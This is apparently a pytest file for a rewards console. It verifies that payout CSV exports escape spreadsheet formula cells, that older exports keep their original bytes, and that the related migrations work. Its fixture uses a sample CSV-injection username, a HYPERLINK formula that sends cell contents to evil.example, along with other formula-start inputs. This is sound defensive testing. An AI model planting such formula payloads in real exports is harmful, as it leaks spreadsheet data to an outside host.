"""A member's text that a spreadsheet would run as a formula never reaches the payout CSV as it
is (format 2, migration 39), while a batch exported before keeps its exact bytes (format 1).

A username such as `=HYPERLINK("http://evil.example/?"&A1,"click")` or a phone receiver
`+447700900123` was written to the CSV as it was: a spreadsheet opening the file ran the first
(sending the sheet's cells away) and turned the second into the number 4.477E+11. Format 2
writes such a text cell behind an apostrophe; amounts and points are numbers and stay as they
are; the JSON (the provider's request, never opened in a spreadsheet) keeps every value raw.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
from pathlib import Path

import pytest

from console.db import Cache, open_cache
from console.desk import Desk
from console.migrations import LATEST_VERSION, MIGRATIONS
from console.rewards.export import EXPORT_FORMAT
from console.spreadsheet import FORMULA_STARTS, read_cell, spreadsheet_safe
from console.team import dialect
from tests.rewards.conftest import superuser_sql

pytestmark = pytest.mark.backends  # each test runs on a cache file and on a team database

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PHONE = "+447700900123"
NUMBER_COLUMNS = ("amount", "points")


@pytest.fixture
def approved(
    cache: Cache, staff: dict[str, Desk], ids: dict[str, int], request: pytest.FixtureRequest
) -> int:
    """An approved batch of 2026-10, whose h1 renamed itself to a formula on the platform and
    whose h2 is paid by phone."""
    superuser_sql(
        cache,
        request,
        f"UPDATE members SET username = '{FORMULA.replace(chr(39), chr(39) * 2)}' "
        f"WHERE id = {ids['member:h1']}",
        f"UPDATE reward_payees SET recipient_type = 'PHONE', receiver = '{PHONE}' "
        f"WHERE member_id = {ids['member:h2']}",
    )
    return _approved(staff)


def _approved(staff: dict[str, Desk]) -> int:
    batch = staff["priya"].rewards.prepare("2026-10").batch_id
    staff["tom"].rewards.approve(batch)
    staff["una"].rewards.approve(batch)
    return batch


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode())))


def _format_of(cache: Cache, batch: int) -> object:
    return cache.one("SELECT export_format FROM payout_batches WHERE id = ?", (batch,))[0]


def test_a_new_batch_escapes_formula_cells_and_keeps_numbers_and_json_raw(
    tmp_path: Path, cache: Cache, staff: dict[str, Desk], approved: int
) -> None:
    batch = approved
    assert _format_of(cache, batch) is None  # fixed by the first export, not before
    made = staff["tom"].rewards.export(batch, tmp_path / "a.csv", tmp_path / "a.json")
    assert _format_of(cache, batch) == EXPORT_FORMAT >= 2
    rows = _rows(made.csv)
    by_receiver = {r["receiver"]: r for r in rows}
    assert set(by_receiver) == {"h1@example.com", "'" + PHONE}
    assert by_receiver["h1@example.com"]["member"] == "'" + FORMULA
    for row in rows:  # no text cell a spreadsheet would run; numbers as they are
        for column, cell in row.items():
            if column not in NUMBER_COLUMNS:
                assert not cell.startswith(FORMULA_STARTS), (column, cell)
        assert row["amount"][0].isdigit() and row["points"].isdigit()
    lines = {line.username: line for line in staff["tom"].rewards.lines(batch)}
    assert by_receiver["h1@example.com"]["points"] == str(lines[FORMULA].points)
    items = {i["receiver"]: i for i in json.loads(made.json)["items"]}
    assert set(items) == {"h1@example.com", PHONE}  # the provider gets the number itself
    assert items[PHONE]["recipient_type"] == "PHONE"
    # re-exported: the same bytes (its hash was kept with its format)
    again = staff["una"].rewards.export(batch, tmp_path / "b.csv", None)
    assert again.csv == made.csv == (tmp_path / "b.csv").read_bytes()
    audit = cache.one(
        "SELECT detail FROM audit WHERE action = 'payout_export' ORDER BY id DESC LIMIT 1"
    )
    assert json.loads(audit[0])["format"] == EXPORT_FORMAT


def test_a_batch_exported_before_keeps_format_1_byte_for_byte(
    tmp_path: Path,
    cache: Cache,
    staff: dict[str, Desk],
    approved: int,
    request: pytest.FixtureRequest,
) -> None:
    """As stop 33 wrote it (csv's minimal quoting, every cell as it was, the formula too) and
    kept its hash: a re-export that escaped it now would differ and be refused. It is written
    as it was."""
    batch = approved
    probe = staff["tom"].rewards.export(batch, None, None)  # its JSON (format 2 is undone below)
    sbid = staff["tom"].rewards.batch(batch).sender_batch_id
    kinds = {"h2@example.com": "EMAIL", PHONE: "PHONE", "h1@example.com": "EMAIL"}
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(
        ["sender_batch_id", "sender_item_id", "recipient_type", "receiver", "amount",
         "currency", "member", "points"]
    )  # fmt: skip
    for line in sorted(staff["tom"].rewards.lines(batch), key=lambda line: line.line_id):
        amount = f"{line.amount_minor // 100}.{line.amount_minor % 100:02d}"
        writer.writerow(
            [sbid, f"batch-{batch}-line-{line.line_id}", kinds[str(line.receiver)],
             line.receiver, amount, "GBP", line.username, line.points]
        )  # fmt: skip
    old = out.getvalue().encode()
    assert FORMULA.replace('"', '""').encode() in old and b"," + PHONE.encode() in old
    digest = hashlib.sha256(old + b"\0" + probe.json).hexdigest()
    superuser_sql(
        cache,
        request,
        f"UPDATE payout_batches SET export_format = 1, export_sha256 = '{digest}' "
        f"WHERE id = {batch}",
    )
    again = staff["una"].rewards.export(batch, tmp_path / "old.csv", tmp_path / "old.json")
    assert again.csv == old == (tmp_path / "old.csv").read_bytes()
    assert again.sha256 == digest and _format_of(cache, batch) == 1


def test_a_result_csv_with_escaped_cells_marks_the_lines(
    tmp_path: Path, staff: dict[str, Desk], approved: int
) -> None:
    """The accountant's way back: the export with a status column added, saved by a tool that
    escapes every text cell with an apostrophe (OWASP's other form), amounts too. No cell the
    reader reads (batch and item ids, amount, currency, status) starts with one of its own."""
    batch = approved
    made = staff["tom"].rewards.export(batch, None, None)
    rows = _rows(made.csv)
    assert any(cell.startswith("'") for row in rows for cell in row.values())
    out = io.StringIO()
    writer = csv.DictWriter(out, [*rows[0], "status"], lineterminator="\n")
    writer.writeheader()
    for n, row in enumerate(rows):
        row["status"] = "SUCCESS" if n == 0 else "FAILED"
        writer.writerow({k: v if v.startswith("'") else "'" + v for k, v in row.items()})
    path = tmp_path / "result.csv"
    path.write_text(out.getvalue())
    counts = staff["priya"].rewards.mark_results(batch, path)
    assert counts == {"paid": 1, "failed": 1, "not_returned": 0, "still_open": 0}


@pytest.mark.parametrize(
    "text",
    ["", "h1", FORMULA, PHONE, "-1", "@SUM(A1)", "\tx", "\rx", "'", "'=x", "''", "a=b", "="],
)
def test_the_escape_is_undone_exactly(text: str) -> None:
    escaped = spreadsheet_safe(text)
    assert read_cell(escaped) == text
    assert not escaped.startswith(FORMULA_STARTS)
    assert escaped == text or escaped == "'" + text


def test_migration_39_marks_only_exported_batches_as_format_1(
    cache: Cache, staff: dict[str, Desk], request: pytest.FixtureRequest
) -> None:
    """Its filling statement, as each engine runs it, on a store whose batches predate it: an
    approved batch is not exported yet (its first export writes the current format)."""
    filled = [s for s in MIGRATIONS[39 - 1] if s.lstrip().startswith("UPDATE")]
    assert len(filled) == 1
    rendered = filled if cache.dialect.is_sqlite else dialect.render(filled[0])
    batch = _approved(staff)
    superuser_sql(cache, request, *rendered)
    assert _format_of(cache, batch) is None
    staff["tom"].rewards.export(batch, None, None)
    superuser_sql(cache, request, "UPDATE payout_batches SET export_format = NULL")
    superuser_sql(cache, request, *rendered)
    assert _format_of(cache, batch) == 1


def test_a_file_set_back_before_39_opens_again_keeping_the_formats(
    tmp_path: Path, cache: Cache, staff: dict[str, Desk], approved: int
) -> None:
    """Its later migrations run again on a file whose version was set back; the column added
    is kept with what it holds (SQLite adds no column IF NOT EXISTS: the runner checks)."""
    if not cache.dialect.is_sqlite:
        pytest.skip("the cache file's own upgrade; the team database's is team-install's")
    staff["tom"].rewards.export(approved, None, None)
    path = tmp_path / "old.sqlite3"
    cache.conn.execute(f"VACUUM INTO '{path}'")
    old = open_cache(path)
    old.conn.execute("PRAGMA user_version = 38")
    old.close()
    again = open_cache(path)
    try:
        assert again.one("PRAGMA user_version")[0] == LATEST_VERSION  # type: ignore[index]
        assert _format_of(again, approved) == EXPORT_FORMAT
    finally:
        again.close()
